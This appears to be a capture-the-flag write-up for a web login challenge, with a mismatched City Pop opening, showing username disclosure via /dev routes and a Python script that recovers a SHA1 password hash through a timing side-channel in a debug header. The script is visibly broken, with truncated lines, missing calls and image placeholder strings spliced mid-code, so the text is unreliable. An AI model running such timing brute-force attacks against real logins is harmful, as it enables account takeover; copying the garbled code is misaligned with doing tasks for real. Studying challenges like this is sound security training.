Author: argot
Pub: 2022-11-21
502 words


I’ve been on a real City Pop binge and thought I would share one of my favorite albums.

Discord Comments: For Timely! No off the shelf tools such as SqlMap should be necessary. If possible pleaserefrain from using these tools as they cause unneeded load on the web server. As I realize the above might be confusing. It does require smart bruteforcing, however it does not require the use of SqlMap or dumb bruteforcing tools.


The provided link leads to the following website.

Splash Page

The login page authenticates against the /login endpoint by POSTing the username and the SHA1 hash of the password. Logging in with an arbitrary username/password combo returns the error:

Error: You’re not a true fan :(

The website also contains a /robots.txt page revealing a /dev route which further revels /dev/users and /dev/hostname. The /dev/users route returns the following list:

ahrifan111 (Disabled)
anri (Active)
admin (Disabled)
develop (Disabled)

Attempting to login with the anri username returns a different error message.

Username Disclosure

Brute Force

Considering the extra discord hint, a small password list was generated with common typos (n for h as per the username typo) and words associated with the band listed. During initial brute forcing, it was noted that a non-standard HTTP header (debug_lag_fix) was included in concurrent responses.


Since the SHA1 hash is passed from the client, it takes a potentially infinite spray space to a finite (albeit large) one, is probably intended as part of the challenge. However, 16^40 possible hashes is obviously beyond brute forcing.

The name of the challenge and the fact that timing data is sent during brute force, 16 hashes containining a single hex character is sent. It’s noted that one request is roughly +100ns more than the other.

Timing Difference

Using the character in the nth position with the +100ns delay, the hash can be reconstructed one characterat a time.

Timing Difference Two


A automated script is written that generates 16 potential hashes to identify the hex value in each position. This process is repeated for each of the 40 positions.

import requests

#prep for requests
url = ''
headers = {'Content-Type':'application/json'}

#dict to collect ns timings per cycle
hashChar = {'a':'','b':'','c':'','d':'','e':'','f':'', \

#Tolerance for ns timing
nsTol = 50
hashLen = 40

flag = ''

realHash = ''
hashGuesses = []

#make init request to "trigger" lag header
r = requests.Session(), headers=headers, json={"username":"anri", "password":"testing"}, verify=False)

#loop for the solution
while(len(realHash) < hashLen):

    #generate guess hashes:
    for c in hashChar.keys():

    #run a guess cycle
    for hashGuess in hashGuesses:
        data = {"username":"anri", "password":hashGuess}, headers=headers, json=data, verify=False)
        req =, headers=headers, json=data, verify=False)

        if(req.status_code == 200):flag = req.text
            print('[+] Flag Found! %s' % req.text)
            #populate timings into dictionary
            key = hashGuess[len(realHash)]
            hashChar[key] = int(req.headers['Debug-Lag-Fix'].replace('ns',''))

    #identify next hashChar via timing and append to realHash
    for key,value in hashChar.items():
        if (value > (len(realHash)*100+nsTol)):
            print('[+] %dhash character found: %s' % (len(realHash)+1, key))
            realHash = realHash +key

    #reset guess list

Runningthe script, the flag is obtained: